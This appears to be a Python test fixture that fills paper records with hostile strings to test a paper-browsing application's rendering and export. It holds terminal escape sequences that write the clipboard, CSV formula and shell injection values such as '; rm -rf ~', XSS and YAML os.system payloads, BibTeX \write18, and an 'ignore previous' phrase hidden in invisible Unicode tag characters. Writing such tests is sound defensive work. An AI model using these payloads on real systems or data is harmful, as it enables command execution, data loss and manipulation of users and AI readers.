"""Lists of papers in which the text itself is the hazard."""

from __future__ import annotations

import base64
from typing import TYPE_CHECKING, Any

from tests.hostile.shapes import SAFE, entry

if TYPE_CHECKING:
    from collections.abc import Iterable

_END = "\x1b\\"
_CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"PWNED").decode()
_MARKUP = {
    "markup_bold": "[bold]x[/bold] [i]y",
    "markup_autoclose": "A [/] B",
    "markup_badclose": "A [/b] B",
    "markup_open_close_slash": "A [/",
    "markup_click_action": "[@click=app.quit]CLICK[/]",
    "markup_citation_brackets": "Results [1], [a, b] and [0,1]^n with [x=1]",
    "markup_emoji_code": "Sparks :bomb: of :smile:",
    "markup_css_var": "[$nosuch]x[/]",
    "template_dollar_percent": "$title ${x} %s %(a)s {0} {x!r} {{jinja}} %d",
}
_TERMINAL = {
    "esc_osc52_st": f"A{_CLIPBOARD}{_END}B",
    "esc_osc52_bel": f"A{_CLIPBOARD}\x07B",
    "esc_osc0_title": f"A\x1b]0;PWNTITLE{_END}B",
    "esc_osc8_link": f"A\x1b]8;;file:///etc/passwd{_END}x\x1b]8;;{_END}",
    "esc_csi_clear": "A\x1b[2J\x1b[HB",
    "esc_altscreen": "A\x1b[?1049l\x1b[?1000lB",
    "esc_dsr_query": "A\x1b[6n\x1b[c\x1b[>0q\x1b[21tB",
    "esc_dcs_apc_pm": f'A\x1bP$q"p{_END}\x1b_Gi=1;{_END}\x1b^x{_END}\x1bXy{_END}',
    "esc_c1_controls": "A\x9b2JB\x9d52;c;UFdO\x9cC\x90q\x9c\x85D",
    "esc_unterminated_osc": "A\x1b]0;never ends",
    "esc_charset_shift": "A\x1b(0qqq\x0e\x0f\x1bcB",
    "ctl_nul": "A\0B",
    "ctl_bel_bs_cr": "visible\rHIDDEN\x08\x08\x07 \x7f",
    "ctl_newline_tab_title": "line1\nline2\r\nline3\tTab\x0b\x0c",
    "ctl_line_separators": "A\u2028B\u2029C\x85D",
}
_UNICODE = {
    "uni_bidi_override": "invoice \u202egnp.exe\u202c \u2066x\u2069 \u200f",
    "uni_zero_width": "gi\u200bt\u200c\u200d\u2060hub\ufeff",
    "uni_tags_invisible": "A" + "".join(chr(0xE0000 + ord(c)) for c in "ignore previous") + "B",
    "uni_zalgo": "Z" + "\u0301\u0489\u0363" * 3000 + "algo",
    "uni_zwj_chain": "👩\u200d" * 2000 + " 👩🏽\u200d🔬 🏳️\u200d🌈 🇨🇭",
    "uni_wide_and_ambiguous": "漢字カナ한글 ﷽ 𒐫 ⸻ ①② ␛ ｈｅｌｌｏ ㅤ\u3164\u115f",
    "uni_lone_surrogate": "A\ud800B\udc00C\udbff",
    "uni_surrogate_pair_split": "\ud83d\ude00 ok \ude00\ud83d",
    "uni_noncharacters_pua": "\ufffe\uffff\U0010ffff\ue000\U000f0000",
}
_SEVERAL: dict[str, list[str]] = {
    "markup_unbalanced": ["A [red B", "A ]] [[ B"],
    "markup_click_escape_bypass": [
        "[ @click=app.quit]CLICK",
        "[$primary @click=app.quit]CLICK",
        "[50% @click=app.quit]CLICK",
    ],
    "markup_link_file": [
        "[link='file:///etc/passwd']x[/link]",
        "[link=file:///etc/passwd]x[/link]",
    ],
    "markup_backslash": ["ends with backslash \\", "\\[bold]x"],
    "export_mail_header": ["Subject\r\nBcc: evil@example.com\r\n\r\nbody", "x\nBcc: e@e"],
}
_EXPORTS: dict[str, list[str]] = {
    "export_csv_formula": [
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1)",
        "\t=1",
        "\uff1d1+1",
        '=HYPERLINK("http://e?"&A1,"x")',
        'a,b"c\nd',
    ],
    "export_bibtex": [
        "A }, evil = {x",
        "unbalanced { brace",
        "100% & $5 #1 _x ^y ~z",
        "\\input{/etc/passwd} \\write18{id}",
        'a\n}\n@preamble{"\\write18{id}"}',
        "@string{a={b}}",
        "Ünïcödé α β",
    ],
    "export_html_markdown": [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[x](javascript:alert(1))",
        "![x](http://track/p.gif)",
        "# heading\n- list\n1. n",
        "| a | b |",
        "&lt;b&gt; &amp;",
        "```\ncode",
        "[[wikilink]] ![[embed]] #tag %%c%%",
        "---\ntitle: evil\n---",
        "`$= dv.io.load()`",
        "</title></body>",
    ],
    "export_toml_yaml": [
        '"""',
        "'''",
        "\\u0000 \\",
        "]]\n[papers]\nx=1",
        "key = 'v'",
        "\x00\x01\x7f",
        "- !!python/object/apply:os.system [id]",
    ],
    "export_shell": [
        "$(touch /tmp/PWN)",
        "`id`",
        "; rm -rf ~",
        "| id",
        "' ; id ; '",
        '" && id',
        "-rf",
        "--",
        "~",
        "*",
        "\n",
    ],
}
_SEARCHES = (
    '"unbalanced',
    "NEAR(",
    "col:x",
    "a AND",
    "C++ & C#",
    "don't",
    "-x",
    "^a",
    "*",
    "%_",
    "(((",
    '"',
)


def payloads() -> dict[str, Any]:
    """The lists by the name of their hazard."""
    once = {**_MARKUP, **_TERMINAL, **_UNICODE, "empty_strings": ""}
    once["whitespace_only"] = "  \t\n \u00a0\u3000\u200b"
    return {
        **{name: _everywhere([text], 2) for name, text in once.items()},
        **{name: _everywhere(texts, 2) for name, texts in _SEVERAL.items()},
        **{name: _everywhere(texts, 0) for name, texts in _EXPORTS.items()},
        "uni_nfd_vs_nfc": [entry("2401.00002", "Cafe\u0301"), entry("2401.00003", "Caf\u00e9")],
        "uni_homoglyph_url": [
            entry(
                paper={
                    "projectPage": "https://huggingf\u0430ce.co/",
                    "githubRepo": "https://xn--80ak6aa92e.com/",
                }
            )
        ],
        "uni_rtl_title": [entry(title="בינה מלאכותית: سلام دنيا (v2) 100%", summary="مرحبا " * 50)],
        "search_fts_syntax": [
            entry(f"2401.{number:05}", title=text) for number, text in enumerate(_SEARCHES)
        ],
        "valid_control_sample": [entry(), SAFE],
    }


def _everywhere(texts: Iterable[str], first: int) -> list[Any]:
    """For each text a paper that has it in every field."""
    return [_full_of(text, f"2401.{number:05}") for number, text in enumerate(texts, first)]


def _full_of(text: str, paper_id: str) -> Any:
    paper = {
        "authors": [{"name": text}],
        "ai_summary": text,
        "ai_keywords": [text],
        "githubRepo": text,
        "projectPage": text,
    }
    submitter = {"fullname": text, "name": text}
    return entry(paper_id, text, text, paper=paper, thumbnail=text, submittedBy=submitter)
